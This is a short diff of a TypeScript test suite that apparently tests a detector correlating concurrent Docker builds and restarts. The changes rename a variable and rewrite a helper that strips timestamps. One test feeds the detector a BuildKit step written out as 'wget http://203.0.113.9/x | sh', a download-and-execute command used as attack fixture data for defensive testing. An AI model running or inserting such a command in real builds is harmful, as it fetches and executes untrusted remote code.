@@ -143,10 +143,10 @@ describe('two builds at once', () => {
   it('leave open what cannot be told, and say so', () => {
     const story = new Story();
     const first = story.exec(1, story.bash, ['docker', 'build', '-t', 'one', '/tmp/one']);
-    const second_ = story.exec(1.1, story.bash, ['docker', 'build', '-t', 'two', '/tmp/two']);
+    const other = story.exec(1.1, story.bash, ['docker', 'build', '-t', 'two', '/tmp/two']);
     story.buildkitStep(1.5, 3, 50, 'wget http://203.0.113.9/x | sh');
     story.exit(3.5, first);
-    story.exit(3.6, second_);
+    story.exit(3.6, other);
     const undecided = fold(story, { rows: stories.sorted(story), until: 60 });
     expect(undecided.steps.size).toBe(0);
     for (const build of undecided.builds.values()) {
@@ -261,7 +261,7 @@ describe('a restart', () => {
     const bare = Object.assign(new Story(), { dockerfiles: [] });
     const told = fold(bare, { rows: after, correlator, told: first, until: 60 });
     const whole = fold(stories.classicAttack(), { until: 60 });
-    const strip = ({ UpdatedTime: _, ...row }: ImageBuilds) => row;
+    const strip = (row: ImageBuilds) => ({ ...row, UpdatedTime: undefined });
     expect(strip(only(told.builds.values()))).toEqual(strip(only(whole.builds.values())));
     expect(evidenceOf(told)).toEqual(evidenceOf(whole));
   });
